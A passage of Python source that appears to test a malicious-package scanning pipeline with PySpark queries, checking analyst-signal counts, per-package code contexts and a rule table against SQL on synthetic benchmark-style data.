def _(spark, sf):
    part = spark.read.parquet(f"{sf}/part.parquet")
    rows = part.select(F.lit("npm").alias("ecosystem"), F.col("p_size").cast("string").alias("package"), F.lit("1").alias("version"), F.lit("a.js").alias("file"), F.col("p_partkey").cast("int").alias("line"), F.col("p_partkey").alias("ord"), F.lit("x").alias("persona"))
    answers = rows.drop("ord").select("*", F.lit(True).alias("ok"), (F.col("line") % 2 == 0).alias("malicious"), F.lit(0.9).alias("confidence"), F.lit("looks packed").alias("rationale"))
    return verdict.analyst_signals(rows.withColumn("excerpt", F.lit("blob")), answers).groupBy("package").agg(F.count("*").alias("told"))


@query("contexts_per_package", "SELECT source, least(count(*), 40) AS n FROM (SELECT DISTINCT source, doc_id FROM documents WHERE length(text) > 0) GROUP BY 1")
def _(spark, sf):
    """At most 40 places of a package are shown with their code."""
    docs = spark.read.parquet(f"{sf}/documents.parquet").where("length(text) > 0")
    at = [F.lit("npm").alias("ecosystem"), F.col("source").alias("package"), F.lit("1").alias("version"), F.concat(F.lit("d"), F.col("doc_id").cast("string"))]
    found = lines.code_context(docs.select(*at[:3], at[3].alias("file"), F.lit(1).alias("line"), F.col("doc_id").alias("ord")), docs.select(*at[:3], at[3].alias("path"), F.concat(F.lit("x\n"), "text").alias("text")))
    return found.groupBy(F.col("package").alias("source")).agg(F.count("*").alias("n"))


@query("rule_table", f"SELECT count(*) AS rules, {len(lines.MEANING)} AS categories FROM (SELECT unnest(range({len(lines.MEANING)})))")
def _(spark, sf):
    """The line rules as a table: category, severity, meaning; and the fingerprint that cached results carry."""
    rows = lines.rule_table(spark).withColumn("fingerprint", F.lit(policy.catalogue_fingerprint()))
    return rows.agg(F.count("*").alias("rules"), F.countDistinct("category").cast("int").alias("categories"))
